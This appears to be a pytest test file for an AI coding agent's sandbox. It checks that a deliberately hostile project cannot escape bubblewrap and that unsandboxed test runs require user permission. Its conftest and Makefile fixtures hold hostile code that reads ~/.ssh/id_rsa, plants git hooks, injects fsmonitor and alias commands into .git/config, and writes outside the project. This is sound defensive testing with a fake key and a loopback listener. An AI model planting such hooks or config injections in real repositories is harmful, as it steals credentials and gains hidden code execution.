"""A hostile project's tests, run by the agent without asking, escape nothing.

The project's ``conftest.py`` and ``Makefile`` try every escape of issue 14 while
its own test still passes: write into ``$HOME``, read ``~/.ssh/id_rsa`` into the
output, connect to a TCP listener this test opens on loopback, write
``.git/hooks/pre-commit``, append to ``.git/config``, and write outside the project.
Everything is real: the agent loop with the scripted model, the bridge on loopback,
bubblewrap, ``make`` and ``pytest``; ``$HOME`` is a fake one holding a fake key.

With the sandbox, ``run_test`` runs without a question, every attempt fails, the
test results reach the model and the key does not. Without one (forced off), the
same test command asks first, and a "no" runs nothing.
"""

from __future__ import annotations

import asyncio
import json
import os
import sys
import uuid
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import pytest

from agent_rig import make_project, reject, running_rig, tool_messages
from agent_shell_bridge.sandbox import SANDBOX_ENV, SandboxStatus, detect_sandbox

# Run again with the sandbox forced off (make test): its path depends on the sandbox.
pytestmark = pytest.mark.sandbox_sensitive

SECRET = "SECRET-KEY-MARKER-7f3a9c-中文"
ATTEMPTS = ("write-home", "read-key", "connect", "hook", "git-config", "outside")

CONFTEST = r"""
import os, socket, pathlib

ROOT = pathlib.Path(__file__).resolve().parent
HOME = pathlib.Path(os.environ["HOME"])
PORT = int((ROOT / "port.txt").read_text())
OUTSIDE = pathlib.Path((ROOT / "outside.txt").read_text().strip())


def attempt(name, action):
    try:
        got = action()
    except Exception as exc:
        print(f"ESCAPE {name}: blocked ({type(exc).__name__})", flush=True)
        return
    if got is False:
        print(f"ESCAPE {name}: blocked (nothing there)", flush=True)
    else:
        print(f"ESCAPE {name}: SUCCEEDED {got!r}", flush=True)


def write_home():
    (HOME / "pwned").write_text("x")


def read_key():
    text = (HOME / ".ssh" / "id_rsa").read_text()
    print(text, flush=True)
    return text if text else False


def connect():
    with socket.create_connection(("127.0.0.1", PORT), timeout=3) as s:
        s.sendall(b"leak")


def hook():
    path = ROOT / ".git" / "hooks" / "pre-commit"
    path.write_text("#!/bin/sh\necho owned\n")
    path.chmod(0o755)


def git_config():
    with open(ROOT / ".git" / "config", "a") as fh:
        fh.write("[core]\n\tfsmonitor = touch /tmp/owned\n")


def outside():
    OUTSIDE.write_text("x")


def pytest_sessionstart(session):
    for name, action in [
        ("write-home", write_home),
        ("read-key", read_key),
        ("connect", connect),
        ("hook", hook),
        ("git-config", git_config),
        ("outside", outside),
    ]:
        attempt(name, action)
"""

MAKEFILE = (
    "test:\n"
    "\t-echo x > $(HOME)/pwned-by-make\n"
    "\t-cat $(HOME)/.ssh/id_rsa\n"
    "\t-echo 'echo owned' > .git/hooks/post-checkout\n"
    "\t-printf '[alias]\\n\\tst = !touch /tmp/owned\\n' >> .git/config\n"
    "\tpytest -q -s\n"
)

TESTS = "def test_arithmetic():\n    assert 1 + 1 == 2\n"


def _real_sandbox() -> SandboxStatus:
    """What this machine offers, whatever AGENT_SHELL_SANDBOX says for the suite."""
    return detect_sandbox({k: v for k, v in os.environ.items() if k != SANDBOX_ENV})


@pytest.fixture
async def listener() -> AsyncIterator[tuple[int, list[bytes]]]:
    """A TCP listener on loopback that records every connection it gets."""
    received: list[bytes] = []

    async def handle(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        received.append(await reader.read(100))
        writer.close()

    server = await asyncio.start_server(handle, "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    try:
        yield port, received
    finally:
        server.close()
        await server.wait_closed()


@pytest.fixture
def hostile(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, listener: Any
) -> Iterator[dict[str, Path]]:
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text(SECRET + "\n", encoding="utf-8")
    (home / ".cache").mkdir()
    # A real, writable host directory outside the project, where the host has one.
    (tmp_path / "outside").mkdir()
    outside = tmp_path / "outside" / f"agent-shell-escape-{uuid.uuid4().hex}.txt"
    port, _ = listener
    root = make_project(
        tmp_path / "proj",
        {
            "conftest.py": CONFTEST,
            "Makefile": MAKEFILE,
            "test_ok.py": TESTS,
            "port.txt": str(port),
            "outside.txt": str(outside),
        },
    )
    monkeypatch.setenv("HOME", str(home))
    # The project's pytest is this virtualenv's.
    monkeypatch.setenv("PATH", f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}")
    try:
        yield {"root": root, "home": home, "outside": outside}
    finally:
        outside.unlink(missing_ok=True)


def _assert_nothing_escaped(paths: dict[str, Path], received: list[bytes], config: bytes) -> None:
    root, home = paths["root"], paths["home"]
    assert not (home / "pwned").exists() and not (home / "pwned-by-make").exists()
    assert not (root / ".git" / "hooks" / "pre-commit").exists()
    assert not (root / ".git" / "hooks" / "post-checkout").exists()
    assert (root / ".git" / "config").read_bytes() == config
    assert not paths["outside"].exists()
    assert received == []


RUN_TEST = {"tool_calls": [{"name": "run_test", "arguments": {"command": "make test"}}]}


async def test_hostile_project_escapes_nothing_in_the_sandbox(
    serve_app: Any, hostile: dict[str, Path], listener: Any
) -> None:
    status = _real_sandbox()
    if not status.available:
        pytest.skip(f"bubblewrap cannot run on this machine: {status.detail}")
    root = hostile["root"]
    config = (root / ".git" / "config").read_bytes()
    async with running_rig(serve_app, root, [RUN_TEST, {"text": "tests ran"}]) as rig:
        rig.runtime.sandbox = status
        sid = await rig.new_session()
        turn = await rig.turn(sid, "run the tests")
        assert turn.permission_requests == []  # auto-allowed: no question asked
        result = json.loads(tool_messages(rig.requests[1])[0].split("\n", 1)[1].rsplit("\n", 1)[0])
        sent_to_model = json.dumps(rig.requests, ensure_ascii=False)
    output = result["stdout"] + result["stderr"]
    # Each escape was tried, and each failed.
    for name in ATTEMPTS:
        assert f"ESCAPE {name}: blocked" in output, output
    assert "SUCCEEDED" not in output
    # The project's own test passed and its results reached the model.
    assert "1 passed" in output and result["exit_code"] == 0
    assert result["summary"]["passed"] == 1 and result["summary"]["ok"] is True
    assert result["sandbox"] == "bubblewrap"
    # No secret text reached the model, and nothing escaped onto the host.
    assert SECRET not in sent_to_model and "SECRET-KEY-MARKER" not in sent_to_model
    _assert_nothing_escaped(hostile, listener[1], config)


async def test_without_a_sandbox_the_test_command_asks(
    serve_app: Any, hostile: dict[str, Path], listener: Any
) -> None:
    root = hostile["root"]
    config = (root / ".git" / "config").read_bytes()
    async with running_rig(serve_app, root, [RUN_TEST, {"text": "stopped"}]) as rig:
        rig.runtime.sandbox = SandboxStatus.off(f"turned off by {SANDBOX_ENV}=off")
        sid = await rig.new_session()
        described = rig.runtime.sessions[sid]
        assert described.sandbox.available is False
        turn = await rig.turn(sid, "run the tests", answer=reject("not unsandboxed"))
        [asked] = turn.permission_requests
        assert asked["toolCall"]["rawInput"]["command"] == "make test"
        assert "no sandbox" in asked["reason"]
        assert "full permissions" in asked["note"]
        sent_to_model = json.dumps(rig.requests, ensure_ascii=False)
        log_text = Path(described.state.log_path or "").read_text(encoding="utf-8")
    assert "No sandbox" in log_text and ":SANDBOX: none" in log_text
    assert "The user rejected this step" in sent_to_model
    assert SECRET not in sent_to_model
    _assert_nothing_escaped(hostile, listener[1], config)


async def test_a_git_directory_made_in_the_sandbox_is_set_aside(
    serve_app: Any, tmp_path: Path
) -> None:
    """A project that is not a repository has no .git to protect: one made is renamed."""
    status = _real_sandbox()
    if not status.available:
        pytest.skip(f"bubblewrap cannot run on this machine: {status.detail}")
    root = tmp_path / "plain"
    root.mkdir()
    (root / "Makefile").write_text(
        "test:\n"
        "\tmkdir -p .git/hooks\n"
        "\tprintf '[core]\\n\\tfsmonitor = touch /tmp/owned\\n' > .git/config\n"
        "\techo ok\n",
        encoding="utf-8",
    )
    async with running_rig(serve_app, root, [RUN_TEST, {"text": "done"}]) as rig:
        rig.runtime.sandbox = status
        sid = await rig.new_session()
        turn = await rig.turn(sid, "run the tests")
        assert turn.permission_requests == []
        result = tool_messages(rig.requests[1])[0]
    assert not (root / ".git").exists()
    aside = root / ".git.made-by-a-sandboxed-command-0"
    assert (aside / "config").is_file()
    assert "renamed to .git.made-by-a-sandboxed-command-0" in result
